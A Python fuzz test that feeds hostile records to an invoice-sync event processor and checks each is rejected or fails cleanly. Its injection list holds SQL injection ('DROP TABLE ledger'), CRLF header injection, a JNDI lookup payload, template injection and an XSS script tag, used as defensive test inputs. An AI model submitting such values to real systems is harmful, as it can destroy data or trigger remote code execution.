"""Hostile input, drawn by hypothesis: each record is rejected or fails cleanly, valid ones sync.

One processor runs through every example, so "never crashes" is checked across all of them.
"""

from __future__ import annotations

import hashlib
import json
import os
import uuid
from collections.abc import Sequence
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, Phase, example, given, seed, settings
from hypothesis import strategies as st

from processors.config import Settings
from processors.devstack import run_coroutine
from processors.testing import TopicReader, async_wait_for
from schemas import EventType, example_event
from tests.chaos.kit import (
    ChaosCompany,
    Feed,
    ProcessorProcess,
    Workload,
    connect_companies,
    generate_workload,
    verify,
    wait_settled,
)

_FULL = os.environ.get("QBD_SYNC_CHAOS", "") == "full"
_INJECTIONS = [
    "Robert'); DROP TABLE ledger;--",
    "x' OR '1'='1",
    "Acme\r\nX-Injected: yes",
    "Acme\nqbd-rejected-reason: forged",
    "{{7*7}} ${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "Ünïcödé 名前 🚀",
    "\u202eevil",
]
Recipe = tuple[str, Any]


def hostile() -> st.SearchStrategy[Recipe]:
    """Recipes for hostile records (materialised with fresh ids at publish time)."""
    wrong = st.one_of(
        st.integers(),
        st.booleans(),
        st.none(),
        st.floats(),
        st.lists(st.integers(), max_size=3),
        st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    )
    fields = st.sampled_from(
        [
            "id",
            "type",
            "specversion",
            "companyid",
            "data",
            "data.lines",
            "data.customer_id",
            "data.transaction_date",
            "data.lines.0.quantity",
            "data.lines.0.amount",
        ]
    )
    numbers = st.one_of(
        st.sampled_from(
            ["1e400", "-125.00", "99999999999999999999999.99", "-0", "0.0000000001", "1E+5"]
        ),
        st.integers(-(10**30), 10**30),
    )
    return st.one_of(
        st.tuples(st.just("broken_json"), st.integers(1, 400)),
        st.tuples(st.just("junk_bytes"), st.binary(max_size=64)),
        st.tuples(st.just("wrong_type"), st.tuples(fields, wrong)),
        st.tuples(
            st.just("number"), st.tuples(st.sampled_from(["amount", "quantity", "rate"]), numbers)
        ),
        st.tuples(st.just("nan"), st.sampled_from([b"NaN", b"Infinity", b"-Infinity", b"1e999"])),
        st.tuples(st.just("huge_string"), st.sampled_from([5_000_000])),
        st.tuples(st.just("deep"), st.integers(1100, 50_000)),
        st.tuples(
            st.just("bad_unicode"),
            st.sampled_from([b"\xff\xfe", b"\xed\xa0\x80", b"\\ud800", b"\xc3"]),
        ),
        st.tuples(st.just("no_companyid"), st.none()),
        st.tuples(st.just("duplicate_id"), st.text(max_size=10)),
        st.tuples(
            st.just("injection"),
            st.one_of(st.sampled_from(_INJECTIONS), st.text(min_size=1, max_size=41)),
        ),
    )


class _Fuzz:
    """The one processor every example runs through, and what was published so far.

    Not a dataclass: hypothesis prints the arguments field by field, and records hold 5 MB.
    """

    def __init__(
        self,
        settings: Settings,
        company: ChaosCompany,
        feed: Feed,
        process: ProcessorProcess,
        setup: Sequence[dict[str, Any]],
    ) -> None:
        self.settings, self.company, self.feed, self.process = settings, company, feed, process
        self.valid: list[dict[str, Any]] = list(setup)
        self.hostile: list[tuple[str, bytes, str | None]] = []  # kind, value, event id
        self.order = {event["id"]: n for n, event in enumerate(setup)}  # id -> publish position
        self.seq = 0

    def __repr__(self) -> str:
        return f"<fuzz company={self.company.id} records={len(self.hostile)}>"


@pytest.fixture
def fuzz(stack: Any, sim: Any, chaos_settings: Any, processors: Any) -> _Fuzz:
    """A company with its mappings synced, and one processor for the whole test."""
    config = run_coroutine(chaos_settings(2))
    company = connect_companies(sim, 1, prefix="fuzz")[0]
    setup = generate_workload([company], 0, seed=1, tag="f")
    feed = Feed(config)
    run_coroutine(feed.publish(setup.events))
    process = processors(config)
    return _Fuzz(config, company, feed, process, setup.events)


def _invoice(fuzz: _Fuzz) -> dict[str, Any]:
    fuzz.seq += 1
    event = example_event(
        EventType.INVOICE_CREATED,
        companyid=fuzz.company.id,
        id=f"{fuzz.company.id}-v{fuzz.seq:05d}",
    )
    event["data"].update(invoice_id=f"inv_v{fuzz.seq}", ref_number=f"V-{fuzz.seq:05d}")
    del event["data"]["terms_id"], event["data"]["due_date"]
    return event


def _set(event: dict[str, Any], path: str, value: Any) -> None:
    *parents, last = path.split(".")
    target: Any = event
    for part in parents:
        target = target[int(part)] if isinstance(target, list) else target[part]
    target[last] = value


def _materialise(fuzz: _Fuzz, recipe: Recipe) -> list[tuple[str, bytes, str | None]]:
    """The records (kind, value, event id) for one recipe, valid originals included."""
    kind, arg = recipe
    base = _invoice(fuzz)
    base["id"] = f"{fuzz.company.id}-h{uuid.uuid4().hex[:10]}"
    raw = orjson.dumps(base)
    if kind == "broken_json":
        return [(kind, raw[: arg % len(raw)], None)]
    if kind == "junk_bytes":
        return [(kind, arg or b"\x00", None)]
    if kind == "wrong_type":
        path, value = arg
        _set(base, path, value)
        event_id = base.get("id")  # the drawn wrong value may be the id itself (a list, say)
        # The stdlib encoder: a drawn wrong value may hold an integer past 64 bits (orjson
        # stops there) or a NaN (written as the bare token, itself hostile JSON).
        value_bytes = json.dumps(base).encode()
        return [(kind, value_bytes, event_id if isinstance(event_id, str) else None)]
    if kind == "number":
        name, value = arg
        base["data"]["lines"][0][name] = value
        # The stdlib encoder writes integers of any size; orjson stops at 64 bits.
        return [(kind, json.dumps(base).encode(), base["id"])]
    if kind == "nan":
        return [(kind, raw.replace(b'"125.00"', arg, 1), None)]
    if kind == "huge_string":
        base["data"]["memo"] = "x" * arg
        return [(kind, orjson.dumps(base), base["id"])]
    if kind == "deep":
        return [
            (kind, raw.replace(b'"Thank you for your business"', b"[" * arg + b"]" * arg, 1), None)
        ]
    if kind == "bad_unicode":
        return [(kind, raw.replace(b"Consulting", b"Consult" + arg, 1), None)]
    if kind == "no_companyid":
        del base["companyid"]
        return [(kind, orjson.dumps(base), None)]
    if kind == "duplicate_id":
        original = _invoice(fuzz)
        fuzz.valid.append(original)
        twin = orjson.loads(orjson.dumps(original))
        twin["data"]["memo"] = f"a different body {arg}"
        return [
            ("valid", orjson.dumps(original), original["id"]),
            (kind, orjson.dumps(twin), twin["id"]),
        ]
    customer = example_event(EventType.CUSTOMER_UPSERTED, companyid=fuzz.company.id, id=base["id"])
    customer["data"].update(customer_id=f"cus_{base['id']}", name=arg, company_name=arg[:41])
    return [(kind, orjson.dumps(customer), base["id"])]


def _sha(value: bytes) -> str:
    return hashlib.sha256(value).hexdigest()


async def _ended(fuzz: _Fuzz) -> tuple[Workload, list[str]]:
    """Wait until every hostile record ended; return the synced workload and what went wrong."""
    rejected = TopicReader(fuzz.settings, fuzz.settings.rejected_topic)
    results = TopicReader(fuzz.settings, fuzz.settings.sync_results_topic)
    try:

        async def all_ended() -> bool:
            await rejected.poll()
            await results.poll()
            gone = {_sha(r.value) for r in rejected.records}
            done = {orjson.loads(r.value)["data"]["event_id"] for r in results.records if r.value}
            return all(
                _sha(v) in gone or (i is not None and i in done) for _k, v, i in fuzz.hostile
            )

        await async_wait_for(all_ended, timeout=120, interval=0.2, what="every hostile record")
        outcomes: dict[str, list[dict[str, Any]]] = {}
        for record in results.records:
            if not record.value:
                continue  # another reader's end-of-topic marker
            data = orjson.loads(record.value)["data"]
            outcomes.setdefault(data["event_id"], []).append(data)
        gone = {_sha(r.value) for r in rejected.records}
    finally:
        await rejected.close()
        await results.close()
    problems, accepted = [], []
    for kind, value, event_id in fuzz.hostile:
        ends = outcomes.get(event_id or "", [])
        if _sha(value) in gone:
            continue
        if kind == "duplicate_id":
            if not any((o.get("error") or {}).get("code") == "IDEMPOTENCY_CONFLICT" for o in ends):
                problems.append(f"duplicate id {event_id} did not fail as IDEMPOTENCY_CONFLICT")
        elif any(o["status"] == "synced" for o in ends):
            accepted.append(orjson.loads(value))  # valid after all (e.g. a name with quotes)
    events = sorted([*fuzz.valid, *accepted], key=lambda e: fuzz.order[e["id"]])
    return Workload((fuzz.company,), tuple(events)), problems


_EXAMPLES = 6 if _FULL else 1
# The default (CI) run draws the same records every time; the full run draws new ones.
_REPRODUCIBLE: Any = (lambda test: test) if _FULL else seed(20261124)
_EVERY_KIND: list[Recipe] = [
    ("broken_json", 57),
    ("junk_bytes", b"\x00\xff{"),
    ("wrong_type", ("data.lines", 7)),
    ("wrong_type", ("data.lines.0.amount", None)),  # valid after all: quantity x rate
    ("number", ("quantity", -3)),
    ("number", ("amount", "1e400")),
    ("nan", b"NaN"),
    ("huge_string", 5_000_000),
    ("deep", 20_000),
    ("bad_unicode", b"\xff\xfe"),
    ("no_companyid", None),
    ("duplicate_id", "x"),
    ("injection", _INJECTIONS[0]),
    ("injection", _INJECTIONS[2]),
]


# Shrinking would re-run the pipeline hundreds of times; the failing draw is printed instead.
@_REPRODUCIBLE
@settings(
    max_examples=_EXAMPLES,
    deadline=None,
    database=None,
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=list(HealthCheck),
)
@example(recipes=_EVERY_KIND)
@given(recipes=st.lists(hostile(), min_size=12, max_size=12))
def test_hostile_records_are_rejected_or_fail_cleanly_and_valid_events_around_them_sync(
    fuzz: _Fuzz, sim: Any, recipes: list[Recipe]
) -> None:
    """Every hostile record ends in qbd.rejected or a clean result; the processor stays up."""
    records: list[tuple[str, bytes, str | None]] = []
    for recipe in recipes:
        records += _materialise(fuzz, recipe)
        valid = _invoice(fuzz)
        fuzz.valid.append(valid)
        records.append(("valid", orjson.dumps(valid), valid["id"]))
    fuzz.hostile += [record for record in records if record[0] != "valid"]
    for _kind, _value, event_id in records:
        if event_id is not None:
            fuzz.order.setdefault(event_id, len(fuzz.order))
    run_coroutine(
        fuzz.feed.publish([value for _k, value, _i in records], key=fuzz.company.id.encode())
    )
    workload, problems = run_coroutine(_ended(fuzz))
    run_coroutine(
        wait_settled(
            workload, fuzz.settings, fuzz.feed.ends, timeout=120, alive=lambda: fuzz.process.alive
        )
    )
    label = f"hostile input ({len(fuzz.hostile)} records)"
    verdict = run_coroutine(verify(workload, fuzz.settings, sim, fuzz.feed.ends, label=label))

    assert fuzz.process.alive, fuzz.process.tail()
    assert problems == []
    assert verdict.ok, verdict.problems
    assert verdict.failed == 0, verdict.problems
